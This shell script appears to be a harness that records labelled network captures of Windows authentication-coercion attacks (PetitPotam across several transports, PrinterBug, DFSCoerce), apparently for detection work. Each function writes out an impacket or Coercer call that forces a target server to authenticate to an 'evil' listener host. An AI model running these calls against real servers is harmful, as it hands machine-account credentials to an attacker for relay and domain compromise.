# Coercion, with and without a callback: one function records one capture.

scenario_petitpotam_pipe_clear() {
  callback_with libsmbclient
  record petitpotam_pipe_clear
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="Everything is readable: no SMB encryption, no RPC authentication. SMB2 WRITE and READ carry the pipe. The listener is impacket's smbserver, whose challenge is always aaaaaaaaaaaaaaaa."
}

scenario_petitpotam_tcp() {
  callback_with libsmbclient
  record petitpotam_tcp
  listen evil $EVIL
  call "ncacn_ip_tcp:$SRV" EfsRpcOpenFileRaw:efsrpc "$FILE" --map
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The endpoint mapper on 135 hands out 49664, there bind and request without authentication."
}

scenario_petitpotam_593() {
  callback_with libsmbclient
  record petitpotam_593
  listen evil $EVIL
  call "ncacn_http:$SRV[593]" EfsRpcOpenFileRaw:efsrpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="The server speaks first: the 14 bytes ncacn_http/1.0, then bare DCE/RPC both ways."
}

scenario_petitpotam_rpc_over_http() {
  callback_with libsmbclient
  record petitpotam_rpc_over_http
  listen evil $EVIL
  call "ncacn_http:[593,RpcProxy=$SRV:80]" EfsRpcOpenFileRaw:efsrpc "$FILE" --proxy "http://$SRV/rpc/rpcproxy.dll"
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$IMPACKET_CALL" \
    notes="RPC over HTTP v2 on port 80: requests in the body of RPC_IN_DATA, answers on another connection in that of RPC_OUT_DATA, RTS PDUs between them, NTLM with a challenge of its own on each. tshark shows the bodies as HTTP data only."
}

scenario_petitpotam_sealed() {
  callback_with libsmbclient
  record petitpotam_sealed
  listen evil $EVIL
  coercer --filter-method-name EfsRpcOpenFileRaw --filter-pipe-name lsarpc
  truth "${COERCED_HERE[@]}" expect=coercion:efsr tools="$COERCER_CALL" \
    notes="Coercer as it comes: a test bind without authentication, then NTLM with PKT_PRIVACY, several forms of path. Interface and opnum are readable, the stub is not."
}

scenario_petitpotam_smb3_encrypted() {
  set_encryption default
  callback_with libsmbclient
  record petitpotam_smb3_encrypted
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\lsarpc]" EfsRpcOpenFileRaw:lsarpc "$FILE"
  truth "${COERCED_HERE[@]}" expect=coercion:callback tools="$IMPACKET_CALL" \
    notes="The server offers SMB3 encryption, as modern servers do, and impacket takes it: of the call itself nothing is readable. What remains is timing and a machine account that logs on at its caller."
  set_encryption off
}

scenario_printerbug() {
  callback_with libsmbclient
  record printerbug
  listen evil $EVIL
  call "ncacn_np:$SRV[\\pipe\\spoolss]" RpcRemoteFindFirstPrinterChangeNotificationEx "\\\\$EVIL" --level 2
  truth "${COERCED_HERE[@]}" expect=coercion:rprn tools="$IMPACKET_CALL" \
    notes="The caller names itself, by address. RPC authentication level CONNECT: credentials in the bind, the stub in clear."
}

scenario_dfscoerce() {
  callback_with libsmbclient
  record dfscoerce
  listen drop $DROP
  call "ncacn_np:$SRV[\\pipe\\netdfs]" NetrDfsRemoveStdRoot "$DROP"
  truth malicious=yes attacker=$EVIL victim=$SRV listener=$DROP expect=coercion:dfsnm tools="$IMPACKET_CALL" \
    notes="The listener is another host than the caller. The server is named without backslashes, as the method wants it."
}
